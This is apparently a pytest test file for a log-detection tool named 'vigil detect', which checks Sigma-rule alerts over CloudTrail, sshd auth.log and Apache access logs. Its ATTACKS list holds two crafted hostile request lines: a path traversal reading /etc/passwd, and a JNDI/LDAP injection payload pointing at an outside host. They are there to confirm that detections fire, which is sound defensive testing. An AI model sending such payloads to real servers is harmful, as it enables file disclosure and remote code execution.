"""`vigil detect` over real logs: the OTRF CloudTrail export, sshd's auth.log
with the shipped brute-force correlation, and an Apache access log with the
SigmaHQ webserver rules; plus correlation semantics on crafted events."""
import json
import os

from conftest import REPO, SHARED, cli

DATASETS = os.path.join(SHARED, "datasets")
SIGMA = os.path.join(SHARED, "sigma", "rules")
CONTENT_RULES = os.path.join(REPO, "content", "rules")


def detect(*args, input=None):
    p = cli("detect", *args, input=input)
    assert p.returncode == 0, p.stderr
    alerts = [json.loads(line) for line in p.stdout.splitlines()]
    return alerts, p.stderr


def summary(stderr):
    """The counts of the summary line: events, rejected, alerts."""
    line = [l for l in stderr.splitlines() if l.startswith("vigil: ") and " events, " in l][-1]
    words = line.split()
    return int(words[1]), int(words[3]), int(words[5].rstrip(";"))


def test_cloudtrail_export_ingests_clean_and_runs_the_aws_rules():
    path = os.path.join(DATASETS, "otrf-aws", "ec2_proxy_s3_exfiltration_2020-09-14011940.json")
    alerts, err = detect("--rules", os.path.join(SIGMA, "cloud", "aws"),
                         "--source-type", "cloudtrail", path)
    events = [json.loads(line) for line in open(path)]
    assert summary(err) == (len(events), 0, len(alerts))
    assert "57 rules (0 not for cloudtrail)" in err
    # The only rule these events meet, counted here by reading them.
    assumed = [e for e in events
               if e["userIdentity"].get("type") == "AssumedRole"
               and e["userIdentity"].get("sessionContext", {}).get("sessionIssuer", {})
               .get("type") == "Role"]
    assert len(assumed) == 11
    assert [a["title"] for a in alerts] == ["AWS STS AssumeRole Misuse"] * 11
    assert [a["event"]["eventID"] for a in alerts] == [e["eventID"] for e in assumed]
    # This export (through Logstash) has @timestamp where CloudTrail has eventTime.
    assert alerts[0]["time"] == assumed[0]["@timestamp"]
    assert alerts[0]["tags"][:2] == ["attack.lateral-movement", "attack.privilege-escalation"]


def test_cloudtrail_s3_files_read_as_their_records(tmp_path):
    """The same export as CloudTrail writes it to S3: {"Records": [...]}
    objects of up to 50 events each, gives the same alerts."""
    path = os.path.join(DATASETS, "otrf-aws", "ec2_proxy_s3_exfiltration_2020-09-14011940.json")
    events = [json.loads(line) for line in open(path)]
    files = tmp_path / "s3.json"
    files.write_text("".join(json.dumps({"Records": events[i:i + 50]}) + "\n"
                             for i in range(0, len(events), 50)))
    rules = os.path.join(SIGMA, "cloud", "aws")
    alerts, err = detect("--rules", rules, "--source-type", "cloudtrail", str(files))
    flat, _ = detect("--rules", rules, "--source-type", "cloudtrail", path)
    assert summary(err) == (len(events), 0, len(flat))
    assert [a["event"]["eventID"] for a in alerts] == [a["event"]["eventID"] for a in flat]


# Read off auth.log by hand: the addresses with ten or more "Failed
# password" lines (a "message repeated N times" line counting N) within
# some five minutes.
BRUTE_FORCE_IPS = [
    "122.163.61.218", "14.54.210.101", "181.25.201.155", "181.25.206.27", "181.26.186.35",
    "201.178.81.113", "221.194.44.190", "24.151.103.17", "34.204.227.175", "49.4.143.105",
]


def test_sshd_auth_log_brute_force_fires_for_exactly_the_guessing_addresses():
    path = os.path.join(DATASETS, "elastic-logs", "auth.log")
    alerts, err = detect("--rules", CONTENT_RULES, "--source-type", "syslog", "--year", "2026",
                         path)
    assert summary(err)[:2] == (7121, 0)
    assert {a["title"] for a in alerts} == {"SSH Brute Force From One Address"}
    assert sorted({a["group"]["source_ip"] for a in alerts}) == BRUTE_FORCE_IPS
    first = alerts[0]
    assert first["correlation"] == "event_count" and first["value"] == 10
    assert first["group"] == {"source_ip": "181.25.206.27"}
    assert (first["first"], first["last"]) == ("2026-03-29T14:15:41.000Z",
                                               "2026-03-29T14:16:19.000Z")
    assert first["event"]["message"] == \
        "Failed password for invalid user cloud from 181.25.206.27 port 50538 ssh2"
    # The base rule reports nothing of its own (generate is false).
    assert all("correlation" in a for a in alerts)


ATTACKS = [
    '203.0.113.9 - - [20/May/2015:12:05:18 +0000] "GET /cgi-bin/x?file=../../../etc/passwd '
    'HTTP/1.1" 404 209 "-" "curl/7.68.0"',
    '203.0.113.9 - - [20/May/2015:12:05:19 +0000] "GET /Basic/Command/Base64/d2hvYW1p '
    'HTTP/1.1" 404 209 "-" "${jndi:ldap://203.0.113.9/a}"',
]


def test_apache_access_log_runs_the_webserver_rules():
    path = os.path.join(DATASETS, "elastic-logs", "apache_access.log")
    with open(path) as f:
        text = f.read()
    lines = text.splitlines()
    # One line of the file lacks the quote that ends its user agent; the
    # parser keeps it (the agent runs to the end of the line).
    assert [n for n, line in enumerate(lines, 1) if line.count('"') != 6] == [8899]
    alerts, err = detect("--rules", os.path.join(SIGMA, "web"), "--source-type", "nginx", path)
    assert summary(err) == (10000, 0, 0)
    assert "13 rules (32 not for nginx)" in err
    body = "\n".join(lines + ATTACKS) + "\n"
    alerts, err = detect("--rules", os.path.join(SIGMA, "web"), "--source-type", "nginx",
                         input=body)
    assert summary(err) == (10002, 0, len(alerts))
    fired = sorted((a["event"]["cs-uri-stem"], a["title"]) for a in alerts)
    assert fired == [
        ("/Basic/Command/Base64/d2hvYW1p", "JNDIExploit Pattern"),
        ("/cgi-bin/x", "Path Traversal Exploitation Attempts"),
    ]
